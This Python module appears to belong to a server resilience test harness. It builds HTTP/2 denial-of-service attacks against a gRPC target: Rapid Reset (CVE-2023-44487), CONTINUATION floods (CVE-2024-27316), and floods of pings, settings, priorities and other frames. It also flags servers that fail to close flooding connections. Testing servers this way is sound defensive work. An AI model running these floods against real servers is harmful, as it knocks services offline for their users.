"""Valid HTTP/2 frames in numbers and orders that no client needs."""

import time

import http2
from attack import HOLDING_SECONDS, Attack, in_threads
from guard import STRANGER

RESETS = 20000    # a connection, at most
BATCH = 200
# gRPC 1.51 makes a call of each stream that is reset, as far as it has read: that is bounded by the
# attack alone.
PEAK_MIB = 1024
# Of a flood of frames: each connection is closed, after what it sends in half a second.
FRAMES_PEAK_MIB = 256
# A connection that floods is closed after so long.
CLOSED_SECONDS = 6.0
LEAST_RATE = 1 << 20  # bytes a second that make it a flood


def _connected(target, outcome):
    """A new connection, or nothing and a little time."""
    try:
        return http2.Connection(target.attacker())
    except OSError:
        outcome.count("connections refused")
        time.sleep(0.1)
        return None


def rapid_reset(target, outcome):
    """Calls that are reset as soon as they are opened (CVE-2023-44487)."""
    def work(target, outcome, worker):
        while target.left() > 0:
            connection = _connected(target, outcome)
            if connection is None:
                continue
            fields = http2.request_fields(connection.access, "MultiplyUnary")
            for first in range(1, 2 * RESETS, 2 * BATCH):
                batch = b"".join(
                    http2.frame(http2.HEADERS, http2.END_HEADERS, stream, fields)
                    + http2.rst_stream(stream) for stream in range(first, first + 2 * BATCH, 2))
                if target.left() <= 0 or not connection.send(batch, 1):
                    break
                outcome.count("resets", BATCH)
                for _ in connection.frames(0):
                    pass
            connection.close()
            outcome.count("connections")

    in_threads(2, work, target, outcome)


def _continuation(rng, access):
    """A header block that goes on and on (CVE-2024-27316)."""
    block = http2.field(b"x-%d" % rng.getrandbits(60), b"v" * 8000)
    first = http2.frame(http2.HEADERS, 0, 1, http2.request_fields(access, "MultiplyUnary"))
    return first, http2.frame(http2.CONTINUATION, 0, 1, block)


def _header_list(rng, access):
    """Large header lists, each of them whole."""
    extra = [(b"x-%d" % i, b"v" * 1000) for i in range(14)]
    fields = http2.request_fields(access, "MultiplyUnary", extra)
    return b"", http2.frame(http2.HEADERS, http2.END_HEADERS, rng.randrange(1, 9999, 2), fields)


def _empty_data(rng, access):
    """A call whose data has no bytes."""
    fields = http2.request_fields(access, "Multiply")
    return http2.frame(http2.HEADERS, http2.END_HEADERS, 1, fields), http2.frame(http2.DATA, 0, 1)


def _empty_continuation(rng, access):
    """A header block that goes on with nothing."""
    first = http2.frame(http2.HEADERS, 0, 1, http2.request_fields(access, "MultiplyUnary"))
    return first, http2.frame(http2.CONTINUATION, 0, 1)


FLOODS = {
    "settings": lambda rng, _: (b"", http2.settings(
        {http2.INITIAL_WINDOW_SIZE: rng.getrandbits(20),
         http2.HEADER_TABLE_SIZE: rng.getrandbits(16)})),
    "pings": lambda rng, _: (b"", http2.frame(http2.PING, 0, 0, rng.randbytes(8))),
    "priorities": lambda rng, _: (b"", http2.frame(http2.PRIORITY, 0, rng.randrange(1, 9999, 2),
                                                   b"\0\0\0\0\x10")),
    "empty data": _empty_data,
    "window updates": lambda rng, _: (b"", http2.window_update(0, 1)),
    "ping acknowledgements": lambda rng, _: (b"", http2.frame(http2.PING, http2.ACK, 0,
                                                              rng.randbytes(8))),
    "settings acknowledgements": lambda rng, _: (b"", http2.frame(http2.SETTINGS, http2.ACK)),
    "continuations": _continuation,
    "empty continuations": _empty_continuation,
    "header lists": _header_list,
    "unknown frames": lambda rng, _: (b"", http2.frame(0x42, 0, 0, rng.randbytes(1000))),
}


def _flood(target, outcome, kind):
    """A flood of one kind on three connections, nothing of what comes back being read. A connection
    that takes it for long is a fault."""
    def work(target, outcome, worker):
        rng = target.rng(worker)
        while target.left() > 0:
            connection = _connected(target, outcome)
            if connection is None:
                continue
            first, each = FLOODS[kind](rng, connection.access)
            batch = each * max(1, (256 << 10) // len(each))
            begin, sent = time.monotonic(), 0
            taken = connection.send(first, 1)
            while taken and target.left() > 0:
                taken = connection.send(batch, 2)
                if not taken:
                    break
                sent += len(batch)
                outcome.count("KiB", len(batch) >> 10)
                seconds = time.monotonic() - begin
                if seconds > CLOSED_SECONDS and sent > LEAST_RATE * seconds:
                    outcome.fault(f"{sent >> 20} MiB of {kind} in {seconds:.0f} s did not close "
                                  "the connection")
                    break
            outcome.count("connections")
            connection.close()
            if not sent:
                time.sleep(0.05)  # refused for a while

    in_threads(3, work, target, outcome)


def _flood_of(kind):
    def run(target, outcome):
        _flood(target, outcome, kind)
    return Attack("frames-" + kind.replace(" ", "-"), f"a flood of {kind} on three connections", run,
                  peak_mib=FRAMES_PEAK_MIB, seconds=HOLDING_SECONDS, by=(STRANGER, "call"))


ATTACKS = [
    Attack("rapid-reset", f"calls reset at once, {RESETS} a connection", rapid_reset,
           peak_mib=PEAK_MIB,
           by=(STRANGER, "call")),
    *(_flood_of(kind) for kind in FLOODS),
]
